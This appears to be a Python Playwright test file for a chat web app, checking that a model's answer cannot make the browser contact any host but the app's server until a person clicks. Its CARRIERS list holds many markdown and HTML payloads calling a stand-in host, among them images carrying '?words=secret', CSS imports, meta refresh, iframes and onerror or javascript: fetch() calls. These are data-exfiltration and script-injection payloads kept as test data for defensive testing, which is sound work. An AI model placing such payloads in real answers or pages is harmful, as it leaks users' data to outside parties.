"""Lines 15 and 17 on the whole page: whatever a model says, the browser asks nobody but the server until a person clicks."""

from __future__ import annotations

from playwright.sync_api import BrowserContext, Request, Route, expect

from tests.browser.chat_page import ChatPage
from tests.support.mock_provider import MockProvider, Thought, openai_reply
from tests.support.server import CodayServer

T = "https://tracker.example"
CARRIERS = [
    f"![chart]({T}/image.png?words=secret)",
    f"![chart][ref]\n\n[ref]: {T}/reference.png",
    f"[![nested]({T}/nested.png)]({T}/page)",
    "![protocol-relative](//tracker.example/relative.png) ![upper](HTTPS://TRACKER.EXAMPLE/upper.png)",
    f'<img src="{T}/html.png"> <img srcset="{T}/set.png 2x"> <svg><image href="{T}/svg.png"/></svg>',
    f'<link rel="prefetch" href="{T}/prefetch"> <link rel="dns-prefetch preconnect" href="{T}">',
    f'<link rel="stylesheet" href="{T}/x.css"> <style>@import "{T}/y.css"; p {{ background: url({T}/z) }}</style>',
    f'<p style="background: url({T}/style.png)">x</p> <table background="{T}/table.png"><tr><td>x</td></tr></table>',
    f'<meta http-equiv="refresh" content="0; url={T}"> <base href="{T}/"> <iframe src="{T}/frame"></iframe>',
    f'<video poster="{T}/poster.png" src="{T}/film.mp4"></video> <audio src="{T}/sound"></audio>',
    f'<object data="{T}/object"></object> <embed src="{T}/embed"> <input type="image" src="{T}/input.png">',
    f'<math><mtext><style><img src="{T}/math.png"></style></mtext></math> <a ping="{T}/ping" href="{T}/a">x</a>',
    f'<svg><use href="{T}/use.svg#x"/><foreignObject><img src="{T}/foreign.png"></foreignObject></svg>',
    "<img src=x onerror=\"fetch('https://tracker.example/script')\"> [x](javascript:fetch('https://tracker.example/link'))",
    f"```html\n<img src={T}/code.png>\n```\n\n`{T}/inline.png`\n\n{T}/bare.png",
]  # fmt: skip
SAID = "\n\n".join(CARRIERS)


def test_an_answer_sends_the_browser_nowhere(
    chat: ChatPage, context: BrowserContext, provider: MockProvider, server: CodayServer
) -> None:
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    provider.answer = lambda _request: openai_reply(Thought(SAID), *CARRIERS[0], "\n\n", SAID, "\n\nThe end.")
    chat.send("Show me")
    chat.expect_run(1, "Completed")
    expect(chat.answers.last).to_contain_text("The end.")
    chat.page.get_by_text("Thinking").or_(chat.page.get_by_text("Thought")).first.click()
    chat.page.reload()
    expect(chat.answers.last).to_contain_text("The end.")
    chat.page.mouse.wheel(0, -5_000)  # what is lazy is in sight now
    chat.page.wait_for_load_state("networkidle")
    elsewhere = [url for url in asked if not url.startswith((server.base_url, "data:", "blob:"))]
    assert elsewhere == []


def test_a_remote_image_is_asked_for_by_a_click_that_tells_nothing_of_the_page(
    chat: ChatPage, context: BrowserContext, provider: MockProvider
) -> None:
    seen: list[Request] = []

    def serve(route: Route) -> None:
        seen.append(route.request)
        route.fulfill(status=200, content_type="text/plain", body="an image")

    context.route(f"{T}/**", serve)
    provider.answer = lambda _request: openai_reply(CARRIERS[0])
    chat.send("Show me")
    chat.expect_run(1, "Completed")
    assert seen == []
    with context.expect_page() as opened:
        chat.answers.last.get_by_role("link").click()
    opened.value.wait_for_load_state()
    assert [request.url for request in seen] == [f"{T}/image.png?words=secret"]
    assert "referer" not in seen[0].all_headers()
    assert opened.value.evaluate("window.opener") is None
